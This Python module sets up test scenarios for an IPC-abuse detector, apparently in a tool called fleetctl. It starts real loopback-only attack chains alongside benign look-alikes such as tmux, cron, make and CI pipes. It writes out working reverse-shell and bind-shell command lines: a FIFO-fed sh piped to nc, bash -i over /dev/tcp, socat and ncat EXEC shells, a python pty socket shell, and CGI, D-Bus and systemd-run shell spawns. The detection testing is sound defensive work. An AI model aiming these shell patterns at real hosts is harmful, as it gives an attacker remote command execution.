"""The scenarios of ``../shared/detection/ipc-abuse.md`` section 4 (attacks, loopback
only) and section 5 (benign look-alikes that must stay quiet).

Each scenario starts real processes in its own session (so one ``killpg`` removes the
whole tree), records every pid and path it creates, and reports the processes the
detector should flag (``suspects``). A tool that is not installed makes the scenario
*skipped*, never passed.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

SH = os.path.realpath("/bin/sh")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class Running:
    """What a started scenario left behind, for waiting on findings and cleaning up."""

    workdir: Path
    procs: list[subprocess.Popen[bytes]] = field(default_factory=list)
    paths: list[Path] = field(default_factory=list)
    cleanups: list[Callable[[], object]] = field(default_factory=list)

    def spawn(self, argv: list[str], **kw: object) -> subprocess.Popen[bytes]:
        kw.setdefault("stdin", subprocess.DEVNULL)
        kw.setdefault("stdout", subprocess.DEVNULL)
        kw.setdefault("stderr", subprocess.DEVNULL)
        proc: subprocess.Popen[bytes] = subprocess.Popen(  # type: ignore[call-overload]
            argv, start_new_session=True, cwd=self.workdir, **kw
        )
        self.procs.append(proc)
        return proc

    def pids(self) -> set[int]:
        """Every live process of the scenario: members of its sessions and all their
        descendants (``setsid`` children leave the session but keep the parent link)."""
        sessions = {p.pid for p in self.procs}
        parents: dict[int, int] = {}
        found = set()
        for entry in Path("/proc").iterdir():
            if not entry.name.isdigit():
                continue
            with contextlib.suppress(OSError, ValueError, IndexError):
                stat = (entry / "stat").read_text()
                after = stat[stat.rindex(")") + 2 :].split()
                pid = int(entry.name)
                parents[pid] = int(after[1])  # field 4: ppid
                if int(after[3]) in sessions:  # field 6: session id
                    found.add(pid)
        changed = True
        while changed:
            grown = {pid for pid, ppid in parents.items() if ppid in found} - found
            changed = bool(grown)
            found |= grown
        return found

    def exited(self) -> list[str]:
        """The started processes that are gone already, with their exit status: why an
        attack chain may never have formed (a client refused, a tool that failed)."""
        return [
            f"{_program(proc)} pid {proc.pid} exited with {proc.returncode}"
            for proc in self.procs
            if proc.poll() is not None
        ]

    def cleanup(self) -> None:
        for action in self.cleanups:
            with contextlib.suppress(Exception):
                action()
        for proc in self.procs:
            with contextlib.suppress(ProcessLookupError, PermissionError):
                os.killpg(proc.pid, signal.SIGKILL)
        for proc in self.procs:
            with contextlib.suppress(subprocess.TimeoutExpired):
                proc.wait(timeout=5)
            for pipe in (proc.stdin, proc.stdout, proc.stderr):
                if pipe is not None:
                    with contextlib.suppress(OSError):
                        pipe.close()
        for path in self.paths:
            with contextlib.suppress(FileNotFoundError):
                if path.is_dir() and not path.is_symlink():
                    shutil.rmtree(path)
                else:
                    path.unlink()
        shutil.rmtree(self.workdir, ignore_errors=True)


def _program(proc: subprocess.Popen[bytes]) -> str:
    """The name of the program ``proc`` runs (``spawn`` always passes an argv list)."""
    argv = proc.args
    return os.path.basename(str(argv[0] if isinstance(argv, list) else argv))


@dataclass(frozen=True)
class Scenario:
    number: str
    name: str
    attack: bool
    tools: tuple[str, ...]
    start: Callable[[Running], None]
    #: What else the machine must offer; returns why not, or None when it does.
    precondition: Callable[[], str | None] | None = None

    def missing_tools(self) -> list[str]:
        """Programs the scenario runs that are not installed."""
        return [t for t in self.tools if shutil.which(t) is None]

    def unavailable(self) -> str | None:
        """Why the scenario cannot run here (a missing program or machine feature)."""
        missing = self.missing_tools()
        if missing:
            return "missing " + ", ".join(missing)
        return self.precondition() if self.precondition is not None else None

    def launch(self) -> Running:
        running = Running(Path(tempfile.mkdtemp(prefix=f"fleetctl-validate-{self.number}-")))
        try:
            self.start(running)
        except BaseException:
            running.cleanup()
            raise
        time.sleep(0.7)  # let the chain settle before the next collection
        return running


def _listening(port: int) -> bool:
    """Whether something listens on TCP ``port``, read from /proc/net/tcp{,6}.

    Connecting to find out would use up the connection of one-shot listeners such as
    ``ncat -l -e`` (they serve one client, then exit).
    """
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError):
            for line in Path(table).read_text().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A" and int(fields[1].rsplit(":", 1)[1], 16) == port:
                    return True
    return False


def _wait(ready: Callable[[], bool], what: str, timeout: float = 5.0) -> None:
    """Poll ``ready`` until it holds; past ``timeout``, fail saying ``what`` was awaited."""
    deadline = time.monotonic() + timeout
    while not ready():
        if time.monotonic() > deadline:
            raise RuntimeError(f"nothing listens on {what}")
        time.sleep(0.05)


def _wait_listening(port: int) -> None:
    _wait(lambda: _listening(port), f"127.0.0.1:{port}")


#: /proc/net/unix's flag for a socket that accepts connections (__SO_ACCEPTCON).
ACCEPTING = 0x10000


def unix_listening(path: Path) -> bool:
    """Whether a unix socket at ``path`` accepts connections, read from /proc/net/unix.

    The file appears at ``bind``, before ``listen``: a client that connects in between
    is refused, and a busy machine can hold a server between the two for long enough.
    """
    with contextlib.suppress(OSError):
        for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
            fields = line.split(maxsplit=7)
            if len(fields) == 8 and fields[7] == str(path) and int(fields[3], 16) & ACCEPTING:
                return True
    return False


def wait_unix_listening(path: Path) -> None:
    _wait(lambda: unix_listening(path), f"the unix socket {path}")


def _nc_listener(run: Running, port: int) -> None:
    """A listener that keeps its connection open (nc -l, as in the notes)."""
    run.spawn(["nc", "-l", "127.0.0.1", str(port)], stdin=subprocess.PIPE)
    _wait_listening(port)


# -- attacks ---------------------------------------------------------------------------


def fifo_reverse_shell(run: Running) -> None:
    port = free_port()
    _nc_listener(run, port)
    fifo = run.workdir / "f"
    os.mkfifo(fifo)
    run.spawn([SH, "-c", f"cat {fifo} | {SH} -i 2>&1 | nc 127.0.0.1 {port} > {fifo}"])


def dev_tcp_shell(run: Running) -> None:
    port = free_port()
    _nc_listener(run, port)
    # --norc: the shell is the same to detection, and the admin's startup files (which
    # may start tools of their own, such as pyenv's rehash and its lock) stay out of it.
    run.spawn(["bash", "-c", f"bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])


def socat_unix_exec(run: Running) -> None:
    sock = run.workdir / "ipc.sock"
    run.spawn(["socat", f"UNIX-LISTEN:{sock},fork", f"EXEC:{SH}"])
    wait_unix_listening(sock)
    run.spawn(["socat", "-", f"UNIX-CONNECT:{sock}"], stdin=subprocess.PIPE)


def socat_tcp_pty(run: Running) -> None:
    port = free_port()
    run.spawn(
        [
            "socat",
            f"TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr,fork",
            "EXEC:bash -li,pty,stderr,setsid,sigint,sane",
        ]
    )
    _wait_listening(port)
    run.spawn(["socat", "-", f"TCP:127.0.0.1:{port}"], stdin=subprocess.PIPE)


def ncat_exec(run: Running) -> None:
    port = free_port()
    run.spawn(["ncat", "-l", "127.0.0.1", str(port), "-e", SH])
    _wait_listening(port)
    run.spawn(["ncat", "127.0.0.1", str(port)], stdin=subprocess.PIPE)


def fifo_command_channel(run: Running, base: Path | None = None) -> None:
    """A shell reading commands from a FIFO in ``base`` (/dev/shm where writable)."""
    if base is None:
        base = Path("/dev/shm") if os.access("/dev/shm", os.W_OK) else run.workdir
    fifo = base / f".c-{os.getpid()}-{time.monotonic_ns()}"
    os.mkfifo(fifo)
    run.paths.append(fifo)
    run.spawn([SH, "-c", f"exec {SH} <>{fifo} >{run.workdir / 'fifo.out'} 2>&1"])
    with open(fifo, "w") as channel:
        channel.write("sleep 120\n")


def python_unix_pty(run: Running) -> None:
    sock = run.workdir / "p.sock"
    run.spawn(["socat", f"UNIX-LISTEN:{sock}", "-"], stdin=subprocess.PIPE)
    wait_unix_listening(sock)
    code = (
        "import socket,os,pty;s=socket.socket(socket.AF_UNIX);"
        f"s.connect({str(sock)!r});[os.dup2(s.fileno(),f) for f in (0,1,2)];"
        f"pty.spawn({SH!r})"
    )
    run.spawn(["python3", "-c", code])


def python_cgi(run: Running, keep_reading: bool = False) -> None:
    """A shell CGI script requested from the web server. The request only waits for the
    headers, so the server's end of the connection is gone from /proc/net by the time
    the script runs; ``keep_reading`` reads on while it runs, as ``curl`` would."""
    port = free_port()
    cgi = run.workdir / "cgi-bin"
    cgi.mkdir()
    # As root, http.server runs CGI scripts as nobody: the tree must be readable to it.
    run.workdir.chmod(0o755)
    cgi.chmod(0o755)
    script = cgi / "t.sh"
    script.write_text(f"#!{SH}\necho 'Content-Type: text/plain'\necho\nwhoami\nsleep 120\n")
    script.chmod(0o755)
    run.spawn(
        [
            sys.executable,
            "-W",
            "ignore",
            "-m",
            "http.server",
            "--cgi",
            "--bind",
            "127.0.0.1",
            str(port),
        ]
    )
    _wait_listening(port)

    def fetch() -> None:
        with contextlib.suppress(Exception):
            response = urllib.request.urlopen(f"http://127.0.0.1:{port}/cgi-bin/t.sh", timeout=150)
            if keep_reading:
                response.read()

    threading.Thread(target=fetch, daemon=True).start()


DBUS_CONFIG = """<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig>
  <type>session</type>
  <listen>unix:path={socket}</listen>
  <servicedir>{services}</servicedir>
  <policy context="default">
    <allow send_destination="*" eavesdrop="true"/>
    <allow eavesdrop="true"/>
    <allow own="*"/>
  </policy>
</busconfig>
"""


def dbus_activation(run: Running) -> None:
    """A private session bus activates a service whose Exec is a shell."""
    services = run.workdir / "services"
    services.mkdir()
    name = f"org.fleetctl.Validate{os.getpid()}x{time.monotonic_ns() % 10**9}"
    (services / f"{name}.service").write_text(
        f"[D-BUS Service]\nName={name}\nExec={SH} -c 'id > {run.workdir / 'out'}; sleep 120'\n"
    )
    socket_path = run.workdir / "bus"
    config = run.workdir / "session.conf"
    config.write_text(DBUS_CONFIG.format(socket=socket_path, services=services))
    run.spawn(["dbus-daemon", f"--config-file={config}", "--nofork", "--nopidfile"])
    wait_unix_listening(socket_path)
    run.spawn(
        [
            "gdbus",
            "call",
            "--address",
            f"unix:path={socket_path}",
            "--dest",
            name,
            "--object-path",
            "/",
            "--method",
            "org.freedesktop.DBus.Peer.Ping",
            "--timeout",
            "120",
        ]
    )


def _user_manager() -> str | None:
    probe = (
        subprocess.run(
            ["systemctl", "--user", "is-system-running"],
            capture_output=True,
            text=True,
            check=False,
        )
        if shutil.which("systemctl")
        else None
    )
    if probe is None or probe.stdout.strip() not in ("running", "degraded"):
        return "no running systemd user manager (systemctl --user)"
    return None


def systemd_run_pipe(run: Running) -> None:
    run.spawn(["systemd-run", "--user", "--pipe", SH, "-c", "id; sleep 120"], stdin=subprocess.PIPE)


# -- benign look-alikes ------------------------------------------------------------------


def tmux_session(run: Running) -> None:
    # A tmux server of its own (-S): the shared default server exits with its last
    # session, and a session started while it exits fails ("server exited unexpectedly").
    tmux = ["tmux", "-S", str(run.workdir / "tmux.sock")]
    subprocess.run(
        [*tmux, "new-session", "-d", "-s", "validate", f"{SH} -c 'ls >/dev/null; sleep 120'"],
        check=True,
        cwd=run.workdir,
    )
    run.cleanups.append(
        lambda: subprocess.run([*tmux, "kill-server"], capture_output=True, check=False)
    )


def cron_run_parts(run: Running) -> None:
    jobs = run.workdir / "cron.daily"
    jobs.mkdir()
    job = jobs / "logrotate"
    job.write_text(f"#!{SH}\nsleep 120\n")
    job.chmod(0o755)
    run.spawn(["run-parts", str(jobs)])


def make_build(run: Running) -> None:
    (run.workdir / "Makefile").write_text("all:\n\tsh -c 'sleep 120 | cat > /dev/null'\n")
    run.spawn(["make", "-C", str(run.workdir)])


def language_server(run: Running) -> None:
    """An interpreter whose stdin, stdout and stderr are pipes to its parent (an LSP)."""
    code = (
        "import subprocess,sys,time; p=subprocess.Popen([sys.executable,'-c',"
        "'import sys,time; time.sleep(120)'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,"
        "stderr=subprocess.PIPE);time.sleep(120)"
    )
    run.spawn([sys.executable, "-c", code])


def ci_pipe_to_shell(run: Running) -> None:
    """cat a local script into a shell; cat stays alive on the pipe (it reads on from its
    own stdin), so the shell is fed by a sibling, as in scenario 1, minus the FIFO."""
    script = run.workdir / "install.sh"
    script.write_text("echo installing\nsleep 120\n")
    run.spawn([SH, "-c", f"cat {script} - | {SH}"], stdin=subprocess.PIPE)


SCENARIOS: tuple[Scenario, ...] = (
    Scenario("1", "FIFO reverse shell (cat fifo | sh -i | nc)", True, ("nc",), fifo_reverse_shell),
    Scenario("2", "bash -i over /dev/tcp", True, ("bash", "nc"), dev_tcp_shell),
    Scenario("3", "socat UNIX-LISTEN EXEC:/bin/sh", True, ("socat",), socat_unix_exec),
    Scenario("5", "socat TCP-LISTEN EXEC:bash -li,pty", True, ("socat", "bash"), socat_tcp_pty),
    Scenario("6", "ncat -l -e /bin/sh", True, ("ncat",), ncat_exec),
    Scenario("7", "shell reading a FIFO in /dev/shm", True, (), fifo_command_channel),
    Scenario("8", "python unix-socket pty shell", True, ("socat", "python3"), python_unix_pty),
    Scenario("10", "python CGI server spawning a shell", True, (), python_cgi),
    Scenario(
        "11", "D-Bus activation running a shell", True, ("dbus-daemon", "gdbus"), dbus_activation
    ),
    Scenario(
        "12",
        "systemd-run --user --pipe shell",
        True,
        ("systemd-run",),
        systemd_run_pipe,
        _user_manager,
    ),
    Scenario("B1", "tmux session running commands", False, ("tmux",), tmux_session),
    Scenario("B2", "cron-style run-parts", False, ("run-parts",), cron_run_parts),
    Scenario("B3", "make spawning shells over pipes", False, ("make",), make_build),
    Scenario("B4", "language server on stdio pipes", False, (), language_server),
    Scenario("B5", "CI step: cat script | sh", False, (), ci_pipe_to_shell),
)
